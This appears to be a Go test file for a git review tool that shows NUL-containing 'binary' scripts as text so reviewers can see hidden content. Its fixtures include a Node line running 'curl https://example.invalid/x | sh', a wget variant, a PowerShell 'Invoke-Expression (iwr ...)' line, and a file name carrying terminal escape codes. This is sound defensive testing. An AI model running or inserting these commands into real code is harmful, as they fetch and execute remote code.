package gitx_test

import (
	"bytes"
	"fmt"
	"image"
	"image/color"
	"image/png"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"testing"

	"reasonixctl/core/gitx"
)

// hiddenJS is a script git calls binary for its one NUL, in a comment on line 2.
const hiddenJS = "const { execSync } = require('child_process');\n// \x00\nexecSync('curl https://example.invalid/x | sh');\n"

// pngBytes is a real PNG image.
func pngBytes(t testing.TB) []byte {
	t.Helper()
	img := image.NewRGBA(image.Rect(0, 0, 16, 16))
	for i := range img.Pix {
		img.Pix[i] = byte(i*37 + i/7)
	}
	img.Set(3, 3, color.RGBA{1, 2, 3, 255})
	var b bytes.Buffer
	if err := png.Encode(&b, img); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func fileOf(t testing.TB, r gitx.Review, path string) gitx.FileChange {
	t.Helper()
	for _, f := range r.Files {
		if f.Path == path {
			return f
		}
	}
	t.Fatalf("%q is not in the review: %v", path, r.Paths())
	return gitx.FileChange{}
}

// patchOf is the part of a review's patch about one file, found by its header.
func patchOf(t testing.TB, r gitx.Review, header string) string {
	t.Helper()
	for _, part := range strings.SplitAfter(string(r.Diff), "\ndiff --git ") {
		if strings.HasPrefix(part, header) || strings.HasPrefix(part, "diff --git "+header) {
			return part
		}
	}
	t.Fatalf("no patch for %q in:\n%q", header, r.Diff)
	return ""
}

// checkPatchApplies holds the review's patch to its promise: applied to the base it gives the
// review tree, so the lines shown as text are exactly the bytes committed.
func checkPatchApplies(t *testing.T, f fixture, wt gitx.Worktree, r gitx.Review) {
	t.Helper()
	check := filepath.Join(t.TempDir(), "check")
	sh(t, f.src, "worktree", "add", "-q", "--detach", check, wt.Base)
	t.Cleanup(func() { sh(t, f.src, "worktree", "remove", "--force", check) })
	patch := filepath.Join(t.TempDir(), "p.diff")
	if err := os.WriteFile(patch, r.Diff, 0o644); err != nil {
		t.Fatal(err)
	}
	sh(t, check, "apply", "--index", patch)
	if tree := sh(t, check, "write-tree"); tree != r.Tree {
		t.Fatalf("the patch gives tree %s, the review says %s", tree, r.Tree)
	}
}

// A script with one NUL is a text patch in the review: every line shows, the NUL among them as
// the byte it is, and what the review learnt of it says why and where.
func TestBinaryScriptIsShownAsText(t *testing.T) {
	f := newFixture(t)
	wt := f.task(t, "nul")
	write(t, filepath.Join(wt.Path, "app.js"), hiddenJS, 0o644)
	r, err := gitx.BuildReview(ctx, wt)
	if err != nil {
		t.Fatal(err)
	}
	p := patchOf(t, r, "a/app.js b/app.js")
	for _, want := range []string{"+// \x00\n", "+execSync('curl https://example.invalid/x | sh');\n"} {
		if !strings.Contains(p, want) {
			t.Fatalf("the patch of app.js lacks %q:\n%q", want, p)
		}
	}
	if strings.Contains(p, "GIT binary patch") || strings.Contains(p, "Binary files") {
		t.Fatalf("app.js is a binary patch:\n%q", p)
	}
	fc := fileOf(t, r, "app.js")
	b := fc.BinaryFacts
	if fc.Binary || fc.Added != 3 || b == nil || !b.AsText || b.Why != gitx.ShownMostlyText || b.Controls != 1 ||
		!slices.Equal(b.ControlLines, []int{2}) || b.Size != int64(len(hiddenJS)) || b.OldSize != -1 {
		t.Fatalf("app.js: %+v facts %+v", fc, b)
	}
	checkPatchApplies(t, f, wt, r)
}

// Every kind of file git calls binary, attacked: each is shown as text or described, never left
// without facts; a file git calls text is left alone, NUL and all.
func TestBinaryFilesAttacked(t *testing.T) {
	f := newFixture(t)
	wt := f.task(t, "attacks")
	img := pngBytes(t)
	late := strings.Repeat("x", 8100) + "\x00\nrun()\n" // the NUL past git's 8,000 bytes
	utf16 := "\xff\xfe" + strings.Join(strings.Split("Invoke-Expression (iwr https://example.invalid)\n", ""), "\x00") + "\x00"
	noBOM := "h\x00i\x00\n\x00"
	latin1 := "// caf\xe9 \x00\n" + strings.Repeat("run();\n", 20) // one byte outside UTF-8 in 150
	garbage := strings.Repeat("\xc3\x28\x00\xa0", 64)
	scattered := strings.Repeat("a\x00", 300) // a control byte for every character
	padded := "/*" + strings.Repeat("\x00", 7000) + "*/\nrun();\n" + strings.Repeat("more();\n", 2)
	ctrlName := "evil\x1b[31m\n\t\"q\\.js"
	files := map[string]string{
		"logo.png":      string(img),
		"late.js":       late,
		"ps.ps1":        utf16,
		"nobom.txt":     noBOM,
		"latin1.js":     latin1,
		"garbage.bin":   garbage,
		"scattered.bin": scattered,
		"padded.js":     padded,
		ctrlName:        hiddenJS,
		"a*b?[c].js":    hiddenJS,
		"aXbYc.js":      string(img), // what a.js, b.js and c.js's name would match as a glob
		"bad-\xff.js":   hiddenJS,
	}
	for name, content := range files {
		write(t, filepath.Join(wt.Path, name), content, 0o644)
	}
	// a.txt was text: the worker makes it binary, mostly control bytes.
	turned := "alpha\n" + strings.Repeat("\x00\x01\x02\x03", 100) + "\n"
	write(t, filepath.Join(wt.Path, "a.txt"), turned, 0o644)
	r, err := gitx.BuildReview(ctx, wt)
	if err != nil {
		t.Fatal(err)
	}
	shown := map[string]string{ // path -> why, for the files shown as text
		"ps.ps1": gitx.ShownUTF16, "latin1.js": gitx.ShownMostlyText, "padded.js": gitx.ShownMostlyText,
		ctrlName: gitx.ShownMostlyText, "a*b?[c].js": gitx.ShownMostlyText, "bad-\xff.js": gitx.ShownMostlyText,
		"a.txt": gitx.ShownWasText,
	}
	kept := map[string]bool{"logo.png": true, "nobom.txt": true, "garbage.bin": true, "scattered.bin": true, "aXbYc.js": true}
	for _, fc := range r.Files {
		b := fc.BinaryFacts
		switch {
		case fc.Path == "late.js":
			if b != nil || fc.Binary || !strings.Contains(string(r.Diff), "+"+strings.Repeat("x", 8100)+"\x00\n") {
				t.Errorf("late.js, text to git, is not a plain text patch: %+v %+v", fc, b)
			}
		case shown[fc.Path] != "":
			if fc.Binary || b == nil || !b.AsText || b.Why != shown[fc.Path] || b.Controls == 0 || len(b.ControlLines) == 0 {
				t.Errorf("%q is not shown as text (%s): %+v %+v", fc.Path, shown[fc.Path], fc, b)
			}
		case kept[fc.Path]:
			if !fc.Binary || b == nil || b.AsText || b.Why != gitx.NotShownBinary || b.Size != int64(len(files[fc.Path])) {
				t.Errorf("%q should stay a binary patch, described: %+v %+v", fc.Path, fc, b)
			}
		default:
			t.Errorf("unexpected file %q", fc.Path)
		}
	}
	if b := fileOf(t, r, "a.txt").BinaryFacts; b.OldSize != int64(len("alpha\nbeta\n")) || b.Controls != 400 || !slices.Equal(b.ControlLines, []int{2}) {
		t.Errorf("a.txt facts: %+v", b)
	}
	if b := fileOf(t, r, "ps.ps1").BinaryFacts; b.MoreControlLines != 0 || !slices.Equal(b.ControlLines, []int{1, 2}) {
		t.Errorf("ps.ps1 facts: %+v", b)
	}
	if n := strings.Count(string(r.Diff), "+execSync('curl https://example.invalid/x | sh');\n"); n != 3 {
		t.Errorf("the three copies of the script show %d times:\n%q", n, r.Diff)
	}
	if n := strings.Count(string(r.Diff), "GIT binary patch"); n != len(kept) {
		t.Errorf("%d binary patches, want %d", n, len(kept))
	}
	checkPatchApplies(t, f, wt, r)
}

// A binary file over MaxTextShownBytes is described by its size alone: its content is never
// read (one cat-file for the sizes, none for contents) and its patch stays binary.
func TestHugeBinaryIsNotRead(t *testing.T) {
	f := newFixture(t)
	wt := f.task(t, "huge")
	write(t, filepath.Join(wt.Path, "small.txt"), "small\n", 0o644)
	if _, err := gitx.BuildReview(ctx, wt); err != nil {
		t.Fatal(err)
	}
	before := gitx.Execs()
	if _, err := gitx.BuildReview(ctx, wt); err != nil {
		t.Fatal(err)
	}
	plain := gitx.Execs() - before

	huge := bytes.Repeat([]byte("run();\n"), gitx.MaxTextShownBytes/7+100)
	huge[10] = 0
	write(t, filepath.Join(wt.Path, "huge.js"), string(huge), 0o644)
	if _, err := gitx.BuildReview(ctx, wt); err != nil { // once, so both reviews start alike
		t.Fatal(err)
	}
	before = gitx.Execs()
	r, err := gitx.BuildReview(ctx, wt)
	if err != nil {
		t.Fatal(err)
	}
	if got := gitx.Execs() - before; got != plain+1 {
		t.Fatalf("the review ran %d git processes, %d without the huge file: the sizes alone take one", got, plain)
	}
	fc := fileOf(t, r, "huge.js")
	if !fc.Binary || fc.BinaryFacts == nil || fc.BinaryFacts.AsText || fc.BinaryFacts.Why != gitx.NotShownLarge ||
		fc.BinaryFacts.Size != int64(len(huge)) {
		t.Fatalf("huge.js: %+v %+v", fc, fc.BinaryFacts)
	}
}

// A deleted binary file is described but costs no git process: nothing of it is committed.
func TestDeletedBinaryIsNotRead(t *testing.T) {
	f := fixtureWith(t, map[string]string{"old.bin": "\x00\x01\x02\x03", "keep.txt": "keep\n"})
	wt := f.task(t, "deleted")
	write(t, filepath.Join(wt.Path, "keep.txt"), "kept\n", 0o644)
	if _, err := gitx.BuildReview(ctx, wt); err != nil {
		t.Fatal(err)
	}
	before := gitx.Execs()
	if _, err := gitx.BuildReview(ctx, wt); err != nil {
		t.Fatal(err)
	}
	plain := gitx.Execs() - before
	os.Remove(filepath.Join(wt.Path, "old.bin"))
	if _, err := gitx.BuildReview(ctx, wt); err != nil {
		t.Fatal(err)
	}
	before = gitx.Execs()
	r, err := gitx.BuildReview(ctx, wt)
	if err != nil {
		t.Fatal(err)
	}
	if got := gitx.Execs() - before; got != plain {
		t.Fatalf("the review with a deleted binary file ran %d git processes, %d without", got, plain)
	}
	fc := fileOf(t, r, "old.bin")
	if fc.Status != 'D' || !fc.Binary || fc.BinaryFacts == nil || fc.BinaryFacts.AsText || fc.BinaryFacts.Size != -1 || fc.BinaryFacts.Why != "" {
		t.Fatalf("old.bin: %+v %+v", fc, fc.BinaryFacts)
	}
}

// BenchmarkLargeRepoReviewBinary reviews a change of one file in the large repository
// (REASONIXCTL_LARGE_REPO, see .ci/bench-large-repo.sh) as text, as a script git calls binary
// (shown as text: read, then diffed again) and as a PNG (read, kept binary), reporting the git
// processes of each: only the changed binary file is measured and read, whatever the size of
// the repository.
func BenchmarkLargeRepoReviewBinary(b *testing.B) {
	repo := os.Getenv("REASONIXCTL_LARGE_REPO")
	if repo == "" {
		b.Skip("set REASONIXCTL_LARGE_REPO to a generated repository (.ci/bench-large-repo.sh)")
	}
	src, err := gitx.OpenSource(ctx, repo, "HEAD")
	if err != nil {
		b.Fatal(err)
	}
	wt, err := gitx.CreateWorktree(ctx, src, b.TempDir(), "bench-binary")
	if err != nil {
		b.Fatal(err)
	}
	b.Cleanup(func() { _ = gitx.RemoveWorktree(ctx, wt) })
	for _, c := range []struct{ name, content string }{
		{"text", "run();\n"}, {"nul-script", hiddenJS}, {"png", string(pngBytes(b))},
	} {
		b.Run(c.name, func(b *testing.B) {
			write(b, filepath.Join(wt.Path, "pkg0000", "changed.js"), c.content, 0o644)
			if _, err := gitx.BuildReview(ctx, wt); err != nil {
				b.Fatal(err)
			}
			before, n := gitx.Execs(), 0
			for b.Loop() {
				if _, err := gitx.BuildReview(ctx, wt); err != nil {
					b.Fatal(err)
				}
				n++
			}
			b.ReportMetric(float64(gitx.Execs()-before)/float64(n), "git-execs/review")
		})
	}
}

// fixtureWith is a source checkout whose one commit holds files.
func fixtureWith(t *testing.T, files map[string]string) fixture {
	t.Helper()
	t.Setenv("GIT_AUTHOR_NAME", "Task Author")
	t.Setenv("GIT_AUTHOR_EMAIL", "author@example.com")
	root := t.TempDir()
	f := fixture{src: filepath.Join(root, "src"), state: filepath.Join(root, "state")}
	sh(t, root, "init", "-q", "-b", "main", f.src)
	for name, content := range files {
		write(t, filepath.Join(f.src, name), content, 0o644)
	}
	sh(t, f.src, "add", "-A")
	sh(t, f.src, "commit", "-q", "-m", "initial")
	return f
}

// A binary file that becomes text is shown as text; one that stays binary, mostly text or not,
// is decided by its new content; one whose old content is too large to show keeps its binary
// patch, whatever the new content, and says so.
func TestBinaryFilesChanged(t *testing.T) {
	img := string(pngBytes(t))
	huge := strings.Repeat("\x00", gitx.MaxTextShownBytes+1)
	f := fixtureWith(t, map[string]string{"now-text.js": img, "nul.js": hiddenJS, "img.png": img, "was-huge.js": huge})
	wt := f.task(t, "changed")
	write(t, filepath.Join(wt.Path, "now-text.js"), "run();\n", 0o644)
	write(t, filepath.Join(wt.Path, "nul.js"), strings.Replace(hiddenJS, "curl", "wget", 1), 0o644)
	write(t, filepath.Join(wt.Path, "img.png"), img+"\x00", 0o644)
	write(t, filepath.Join(wt.Path, "was-huge.js"), "run();\n", 0o644)
	r, err := gitx.BuildReview(ctx, wt)
	if err != nil {
		t.Fatal(err)
	}
	for path, want := range map[string]gitx.BinaryFacts{
		"now-text.js": {Size: 7, OldSize: int64(len(img)), AsText: true, Why: gitx.ShownNowText},
		"nul.js": {Size: int64(len(hiddenJS)), OldSize: int64(len(hiddenJS)), AsText: true, Why: gitx.ShownMostlyText,
			Controls: 1, ControlLines: []int{2}},
		"img.png":     {Size: int64(len(img)) + 1, OldSize: int64(len(img)), Why: gitx.NotShownBinary},
		"was-huge.js": {Size: 7, OldSize: int64(len(huge)), Why: gitx.NotShownLarge},
	} {
		fc := fileOf(t, r, path)
		if fc.BinaryFacts == nil || fc.Binary == want.AsText || !reflect.DeepEqual(*fc.BinaryFacts, want) {
			t.Errorf("%s: binary patch %v, facts %+v, want %+v", path, fc.Binary, fc.BinaryFacts, want)
		}
	}
	if p := patchOf(t, r, "a/nul.js b/nul.js"); !strings.Contains(p, "-execSync('curl") || !strings.Contains(p, "+execSync('wget") {
		t.Errorf("the patch of nul.js does not show the changed line:\n%q", p)
	}
	checkPatchApplies(t, f, wt, r)
}

// However many binary files a change adds, the review reads and shows at most its fill of them;
// the rest keep their binary patches and say why.
func TestBinaryFilesShownAreBounded(t *testing.T) {
	f := newFixture(t)
	wt := f.task(t, "many")
	const n = 70
	for i := range n {
		write(t, filepath.Join(wt.Path, "js", fmt.Sprintf("%02d.js", i)), hiddenJS, 0o644)
	}
	r, err := gitx.BuildReview(ctx, wt)
	if err != nil {
		t.Fatal(err)
	}
	shown, budget := 0, 0
	for _, fc := range r.Files {
		switch b := fc.BinaryFacts; {
		case b != nil && b.AsText && !fc.Binary:
			shown++
		case b != nil && !b.AsText && fc.Binary && b.Why == gitx.NotShownBudget && b.Size == int64(len(hiddenJS)):
			budget++
		default:
			t.Errorf("%s: binary patch %v, facts %+v", fc.Path, fc.Binary, b)
		}
	}
	if shown == 0 || budget == 0 || shown+budget != n {
		t.Fatalf("%d shown as text, %d left binary for the budget, of %d", shown, budget, n)
	}
}
